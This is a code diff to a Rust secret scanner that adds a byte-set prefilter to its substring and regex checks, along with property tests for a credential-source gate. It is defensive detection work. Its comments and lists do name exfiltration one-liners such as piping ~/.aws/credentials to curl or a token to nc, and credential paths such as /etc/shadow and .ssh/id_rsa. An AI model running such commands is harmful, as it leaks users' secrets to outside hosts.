@@ -158,16 +158,16 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     };
     let d = Doc::new(text, s);
     tokens(&d, s, out, &mut push);
-    if has(text, "PRIVATE KEY") {
+    if d.holds("PRIVATE KEY") {
         private_keys(&d, out, &mut push);
     }
-    if has(text, "://") {
+    if d.holds("://") {
         connection_strings(&d, out, &mut push);
     }
-    if has(text, "eyJ") {
+    if d.holds("eyJ") {
         jwts(text, out, &mut push);
     }
-    if has(text, "AC") {
+    if d.holds("AC") {
         twilio_pairs(text, out, &mut push);
     }
     assignments(&d, out, &mut push);
@@ -270,12 +270,15 @@ type Push<'p> = dyn FnMut(&mut Vec<Hit>, Confidence, &'static str, std::ops::Ran
 struct Doc<'t> {
     /// The (bounded) text.
     text: &'t str,
-    /// Its ASCII lower-case copy (same byte offsets).
-    lower: String,
+    /// Its ASCII lower-case copy (same byte offsets; the text itself when
+    /// it has no upper-case letter).
+    lower: Cow<'t, str>,
     /// Offsets of the markdown code fences (```) in prose.
     fences: Vec<usize>,
     /// Whether the subject is prose (documentation may quote examples).
     prose: bool,
+    /// The ASCII bytes the text holds (a needle with another is not searched for).
+    bytes: super::ByteSet,
 }
 
 impl<'t> Doc<'t> {
@@ -283,7 +286,10 @@ impl<'t> Doc<'t> {
     fn new(text: &'t str, s: &Subject<'_>) -> Self {
         let prose = s.context == Context::Text;
         let fences = if prose && has(text, "```") { text.match_indices("```").map(|(i, _)| i).take(4096).collect() } else { Vec::new() };
-        Doc { text, lower: text.to_ascii_lowercase(), fences, prose }
+        let bytes = super::ByteSet::of(text);
+        // (The set says when there is no upper-case letter to lower.)
+        let lower = if bytes.may_hold_upper() { super::ascii_lower(text) } else { Cow::Borrowed(text) };
+        Doc { text, lower, fences, prose, bytes }
     }
 
     /// Whether `at` sits inside a markdown code fence of prose.
@@ -291,9 +297,14 @@ impl<'t> Doc<'t> {
         self.prose && self.fences.partition_point(|f| *f < at) % 2 == 1
     }
 
-    /// ASCII case-insensitive substring test.
+    /// ASCII case-insensitive substring test (`needle` lower-case).
     fn has(&self, needle: &str) -> bool {
-        has(&self.lower, needle)
+        self.bytes.may_hold_folded(needle) && has(&self.lower, needle)
+    }
+
+    /// Substring test on the text as written.
+    fn holds(&self, needle: &str) -> bool {
+        self.bytes.may_hold(needle) && has(self.text, needle)
     }
 }
 
@@ -387,7 +398,7 @@ fn tokens(d: &Doc<'_>, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>)
             push(out, conf, rule, at);
         }
     }
-    if has(text, ":AA")
+    if d.holds(":AA")
         && let Some(tg) = TELEGRAM.as_ref()
     {
         for m in tg.find_iter(text).take(16) {
@@ -400,7 +411,7 @@ fn tokens(d: &Doc<'_>, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>)
     }
     // An Azure Storage account key in a connection string: 64 random
     // bytes, base64 (86 characters and `==`), wherever it is quoted.
-    if has(text, "AccountKey=") {
+    if d.holds("AccountKey=") {
         for (p, _) in text.match_indices("AccountKey=").take(16) {
             let v = p + "AccountKey=".len();
             let key = text
@@ -417,7 +428,7 @@ fn tokens(d: &Doc<'_>, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>)
             }
         }
     }
-    if has(text, "Q~") {
+    if d.holds("Q~") {
         for at in azure_client_secrets(text).take(16) {
             push(out, Confidence::High, "secret.azure-client-secret", at);
         }
@@ -1075,8 +1086,7 @@ fn assignments(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
         named_values(d, out, push);
     }
     // (The first three names all hold `secret`: one test for most texts.)
-    if d.has("secret") && (d.has("aws_secret") || d.has("secretaccesskey") || d.has("secret_key")) || has(text, "AKIA") || has(text, "ASIA")
-    {
+    if d.has("secret") && (d.has("aws_secret") || d.has("secretaccesskey") || d.has("secret_key")) || d.holds("AKIA") || d.holds("ASIA") {
         aws_secret_keys(d, out, push);
     }
 }
@@ -1211,7 +1221,7 @@ fn named_values(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
     }
     // `curl -u user:password`, `--user user:password`.
     for flag in [" -u ", " --user ", "\t-u "] {
-        if !has(&d.lower, flag) {
+        if !d.has(flag) {
             continue;
         }
         for (at, _) in d.lower.match_indices(flag).take(8) {
@@ -1270,7 +1280,7 @@ fn named_values(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
         }
     }
     // `admin / S3cret!`, `login: root / hunter22`: a login pair in prose.
-    for (at, _) in has(text, " / ").then(|| text.match_indices(" / ").take(16)).into_iter().flatten() {
+    for (at, _) in d.holds(" / ").then(|| text.match_indices(" / ").take(16)).into_iter().flatten() {
         let head = d.lower.get(at.saturating_sub(24)..at).unwrap_or("").trim_end_matches(':');
         let Some(user) = head.rsplit([' ', '\n', ':']).next() else { continue };
         if !matches!(user, "admin" | "root" | "administrator" | "sa" | "postgres" | "ubuntu" | "ec2-user") {
@@ -1383,11 +1393,16 @@ fn aws_secret_keys(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
 
 /// Credentials read on the host and sent out: `cat ~/.aws/credentials | curl -d @- ...`,
 /// `echo $GITHUB_TOKEN | nc host 9000`.
+/// Whether [`CRED_SOURCE`] may match `d`'s text: each of its alternatives
+/// holds a `.`, `/`, `$` or `|`, but `printenv` (a test keeps this in step).
+fn may_name_cred_source(d: &Doc<'_>) -> bool {
+    d.bytes.may_hold_any(b"./$|") || d.holds("printenv")
+}
+
 fn exfiltration(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
     let text = d.text;
-    let lower = &d.lower;
     let Some(re) = CRED_SOURCE.as_ref() else { return };
-    if !re.is_match(text) {
+    if !may_name_cred_source(d) || !re.is_match(text) {
         return;
     }
     let pipe_sink = [
@@ -1405,7 +1420,7 @@ fn exfiltration(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
         "dig $(",
     ]
     .iter()
-    .any(|w| has(lower, w));
+    .any(|w| d.has(w));
     let data_sink = pipe_sink
         || [
             "--data",
@@ -1422,8 +1437,8 @@ fn exfiltration(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
             "fetch(",
         ]
         .iter()
-        .any(|w| has(lower, w));
-    if !data_sink || !(has(lower, "://") || has(lower, "/dev/tcp/") || has(lower, "nc ") || has(lower, "$(")) {
+        .any(|w| d.has(w));
+    if !data_sink || !(d.has("://") || d.has("/dev/tcp/") || d.has("nc ") || d.has("$(")) {
         return;
     }
     for c in re.captures_iter(text).take(8) {
@@ -1736,6 +1751,58 @@ fn classes(v: &str) -> usize {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4000))]
+        /// `may_name_cred_source` passes every text CRED_SOURCE matches.
+        #[test]
+        fn cred_source_gate_admits_every_match(parts in proptest::collection::vec("printenv|env \\||env\\||\\.npmrc|\\$\\{?AWS_SECRET_KEY\\}?|\\.ssh/id_rsa|/etc/shadow|gcloud/credentials|[a-zA-Z_ ]{1,6}|[./$|{}]", 0..6)) {
+            let text: String = parts.concat();
+            let d = Doc { text: &text, lower: super::super::ascii_lower(&text), fences: Vec::new(), prose: false, bytes: super::super::ByteSet::of(&text) };
+            if CRED_SOURCE.as_ref().is_some_and(|re| re.is_match(&text)) {
+                proptest::prop_assert!(may_name_cred_source(&d), "{}", text);
+            }
+        }
+    }
+
+    /// Every alternative of CRED_SOURCE holds a byte `may_name_cred_source`
+    /// looks for, or is `printenv`.
+    #[test]
+    fn cred_source_alternatives_hold_a_gate_byte() {
+        for m in [
+            ".aws/credentials",
+            ".ssh/id_ed25519",
+            "/proc/self/environ",
+            ".git-credentials",
+            ".docker/config.json",
+            ".kube/config",
+            ".npmrc",
+            ".pypirc",
+            ".netrc",
+            "printenv",
+            "env |",
+            "env|",
+            "/etc/shadow",
+            ".vault-token",
+            "gcloud/credentials.db",
+            "$GITHUB_TOKEN",
+            "${DB_PASSWORD}",
+            "$API_KEY",
+        ] {
+            let d =
+                Doc { text: m, lower: super::super::ascii_lower(m), fences: Vec::new(), prose: false, bytes: super::super::ByteSet::of(m) };
+            assert!(CRED_SOURCE.as_ref().is_some_and(|re| re.is_match(m)), "{m}");
+            assert!(may_name_cred_source(&d), "{m}");
+        }
+        let d = Doc {
+            text: "env staging token",
+            lower: "env staging token".into(),
+            fences: Vec::new(),
+            prose: false,
+            bytes: super::super::ByteSet::of("env staging token"),
+        };
+        assert!(!may_name_cred_source(&d));
+    }
 
     /// The first two bytes of every alternative of [`TOKEN_START_PATTERN`]
     /// (a literal, an escaped literal, a class `[..]` or a group `(?:..|..)`
